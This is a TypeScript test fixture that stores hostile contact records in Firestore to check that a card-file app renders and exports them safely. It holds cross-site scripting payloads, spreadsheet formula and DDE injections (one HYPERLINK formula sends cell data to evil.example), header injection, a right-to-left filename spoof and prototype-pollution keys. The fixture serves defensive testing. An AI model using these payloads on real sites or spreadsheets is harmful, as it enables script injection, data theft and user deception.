import type { DocumentData } from 'firebase/firestore/lite';
import { Bytes, GeoPoint } from 'firebase/firestore/lite';
import { putDocument } from '../../setup/documents';
import type { User } from '../../setup/accounts';

/** Each attack that could run sets this on the window. */
export const RAN = 'cardfileWasHacked';

/** Texts that each stand in every field of a contact. */
const TEXTS: Record<string, string> = {
  image: `<img src=x onerror="window.${RAN}=1">`,
  script: `<script>window.${RAN}=1</script>`,
  closing: `"'></textarea></title></script><svg onload=window.${RAN}=1>`,
  frame: `<iframe srcdoc="<script>parent.${RAN}=1</script>"></iframe><style>*{display:none}</style>`,
  expression: `\${window.${RAN}=1}{{constructor.constructor('window.${RAN}=1')()}}`,
  javascript: `javascript:window.${RAN}=1//`,
  disguisedJavascript: ` \u0001JaVa\tScRiPt\n:window.${RAN}=1`,
  dataPage: `data:text/html,<script>opener.${RAN}=1</script>`,
  dataImage: `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='window.${RAN}=1'/>`,
  otherScheme: 'vbscript:msgbox(1)',
  userName: 'https://accounts.example@evil.example/',
  backslashes: '\\\\evil.example\\share',
  rightToLeft: 'invoice\u202efdp.exe',
  isolates: '\u2066\u2067abc\u2069\u2068\u200f\u200edef',
  hebrew: 'שלום (עולם) 123',
  long: 'A'.repeat(5_000),
  longWords: 'Wörter und '.repeat(455),
  longWide: '漢'.repeat(5_000),
  stacked: `Z${'\u0301\u0323'.repeat(400)}algo`,
  formula: '=HYPERLINK("https://evil.example?"&A1,"Open")',
  formulaPlus: '+cmd|" /C calc"!A0',
  formulaMinus: '-2+3+cmd|" /C calc"!A0',
  formulaAt: '@SUM(1+1)*cmd|" /C calc"!A0',
  formulaTab: '\t=1+1',
  formulaReturn: '\r=1+1',
  formulaQuoted: '"=1+1","=2+2"\r\n=3+3',
  nul: 'before\0after',
  controls: '\u0007\u001b[31m\u0008\u007f\u0085red',
  lineSeparators: 'one\u2028two\u2029three\nfour',
  invisible: '\u200b\ufeff\u00ad\u2060',
  prototype: '__proto__',
  percent: '%00%0d%0aSet-Cookie:%20a=b&subject=x?bcc=all@cardfile.example',
  mail: 'a@b.example?bcc=c@d.example,e@f.example',
  emoji: '👩‍👩‍👧‍👦'.repeat(60),
};

/** What is no text at all, in every field of a contact, its dates included. */
const ODD: Record<string, unknown> = {
  null: null,
  yes: true,
  number: 1e21,
  notANumber: NaN,
  infinite: -Infinity,
  list: ['<b>list</b>', ['nested in a map'].length, null],
  map: { toString: 'x', toDate: 'y', seconds: '1e9', length: 5000 },
  dateLikeMap: { seconds: 1e300, nanoseconds: -1 },
  bytes: Bytes.fromUint8Array(new Uint8Array([0, 255, 60])),
  place: new GeoPoint(90, -180),
};

/** Dates as no timestamp would have them; the texts of these contacts are harmless. */
const DATES: Record<string, unknown> = {
  isoText: '2025-02-30T25:61:00Z',
  sentence: 'yesterday, or the day before',
  markup: `<img src=x onerror="window.${RAN}=1">`,
  seconds: 1_700_000_000,
  tooFar: 8.64e15 + 1,
  beforeTime: -1e15,
  firstYear: new Date('0001-01-01T00:00:00Z'),
  lastYear: new Date('9999-12-31T23:59:59Z'),
};

const TEXT_FIELDS = ['name', 'company', 'title', 'email', 'phone', 'website', 'address', 'notes'];
const IMAGE_FIELDS = ['photoURL', 'cardImageURL', 'cardImage', 'imageURL', 'image'];
const DATE_FIELDS = ['createdAt', 'updatedAt'];

/** A hostile contact; `text` is what its fields hold where that is text. */
export interface HostileContact {
  id: string;
  what: string;
  text: string | null;
}

/** Stores one contact for each attack, past the rules. Answers them and how many values they hold. */
export async function putHostileContacts(
  owner: User,
): Promise<{ contacts: HostileContact[]; values: number }> {
  const contacts: HostileContact[] = [];
  let values = 0;
  const put = async (what: string, text: string | null, fields: DocumentData, hostile: number) => {
    const id = `${owner.uid}-${what}`;
    contacts.push({ id, what, text });
    values += hostile;
    await putDocument(`businessCards/${id}`, { userId: owner.uid, ...fields });
  };
  const textFields = [...TEXT_FIELDS, ...IMAGE_FIELDS];
  const oddFields = [...textFields, ...DATE_FIELDS];
  const dates = { createdAt: new Date('2025-06-15T12:00:00Z') };
  await Promise.all([
    ...Object.entries(TEXTS).map(([what, text]) =>
      put(what, text, { ...filled(textFields, text), ...dates }, textFields.length),
    ),
    ...Object.entries(ODD).map(([what, value]) =>
      put(`odd-${what}`, null, filled(oddFields, value), oddFields.length),
    ),
    ...Object.entries(DATES).map(([what, value]) => {
      const fields = { ...filled(DATE_FIELDS, value), name: `Date ${what}` };
      return put(`date-${what}`, `Date ${what}`, fields, DATE_FIELDS.length);
    }),
  ]);
  return { contacts, values };
}

function filled(fields: readonly string[], value: unknown): DocumentData {
  return Object.fromEntries(fields.map((field) => [field, value]));
}
